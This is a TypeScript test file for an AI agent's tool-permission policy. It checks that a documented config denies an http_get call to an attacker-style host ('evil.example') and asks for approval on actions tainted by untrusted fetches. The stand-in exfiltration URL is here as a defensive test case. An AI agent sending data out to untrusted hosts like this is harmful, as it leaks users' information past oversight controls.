import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import type { ToolFacts } from "../../../lib/config/tool-facts.ts";
import { policyMatrix, renderMatrix } from "../../../lib/policy/matrix.ts";
import { configWarnings } from "../../../lib/policy/warnings.ts";
import { load } from "../config/support.ts";
import { callOf, ruling, scopeOf, worldTools } from "./support.ts";

const docs = readFileSync(join(import.meta.dirname, "../../../docs/policy.md"), "utf8");
const toml = /```toml\n([^]+?)```/.exec(docs)?.[1] ?? "";
const tools: readonly ToolFacts[] = [
  ...worldTools.filter(({ name }) => /^(time|commitments|history|files|agent)_/.test(name)),
  { name: "http_get", labels: ["untrusted", "egress"], arguments: ["url", "start"] },
];

test("the worked config of docs/policy.md loads, without a warning, and decides as it says", (t) => {
  const config = load(t, toml, {}, tools);
  assert.deepEqual(configWarnings(config), []);
  const scope = scopeOf(config, "ops", "matrix:@me:home.example");
  const tool = tools.find(({ name }) => name === "http_get") ?? { name: "", labels: [] };
  const fetched = { ...callOf("http_get", { args: { url: "https://evil.example/?all=x" } }), tool };
  assert.equal(ruling(scope, fetched), "deny: agents.ops.arguments.http_get.url.hosts is not met");
  assert.match(ruling(scope, callOf("commitments_complete", { taint: ["tool:http_get"] })), /^ask/);
});

test("the matrix shown in docs/policy.md is that of its config", (t) => {
  const shown = /\$ claw policy matrix\n([^]+?)```/.exec(docs)?.[1]?.trim();
  const table = renderMatrix(policyMatrix(load(t, toml, {}, tools)))
    .join("\n")
    .split("\n\n")[0];
  assert.equal(shown, table);
});
